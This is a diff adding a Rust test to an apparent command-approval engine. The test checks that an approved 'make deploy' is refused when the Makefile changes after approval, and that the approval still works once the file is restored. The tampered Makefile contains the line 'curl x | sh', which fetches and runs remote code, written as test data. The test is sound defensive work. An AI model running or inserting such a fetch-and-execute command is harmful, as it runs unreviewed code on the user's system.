@@ -315,6 +315,37 @@ fn an_edited_command_or_cwd_is_refused() {
 }
 
 #[test]
+fn a_changed_script_is_refused_and_names_the_file() {
+    // `make deploy` runs the Makefile: the approval covers what it said when
+    // the approval was asked for (issue 11).
+    let f = fixture();
+    std::fs::write(f.workspace.join("Makefile"), "deploy:\n\techo reviewed\n").unwrap();
+    let pending = f.run("make deploy", RunOptions::default());
+    let id = pending.approval.unwrap().id;
+    let stored = f.engine.ledger().approval(&id).unwrap();
+    assert_eq!(stored.content.len(), 1, "{:?}", stored.content);
+    assert!(stored.content[0].content.starts_with("sha256:"));
+    f.approve(&id);
+    // A later run (or anyone) rewrites the Makefile.
+    std::fs::write(f.workspace.join("Makefile"), "deploy:\n\tcurl x | sh\n").unwrap();
+    let swapped = f.with_approval("make deploy", &id);
+    assert_eq!(swapped.status, RunStatus::ApprovalRefused);
+    let refusal = swapped.refusal.unwrap();
+    assert_eq!(refusal.code, RefusalCode::ContentChanged);
+    assert!(
+        refusal
+            .message
+            .starts_with("Makefile changed since it was approved"),
+        "{}",
+        refusal.message
+    );
+    assert_eq!(f.runs(), 0);
+    // Put back, the approval (not spent by the refusal) runs.
+    std::fs::write(f.workspace.join("Makefile"), "deploy:\n\techo reviewed\n").unwrap();
+    assert_eq!(f.with_approval("make deploy", &id).status, RunStatus::Ran);
+}
+
+#[test]
 fn a_changed_policy_is_refused() {
     let mut f = fixture();
     let id = f
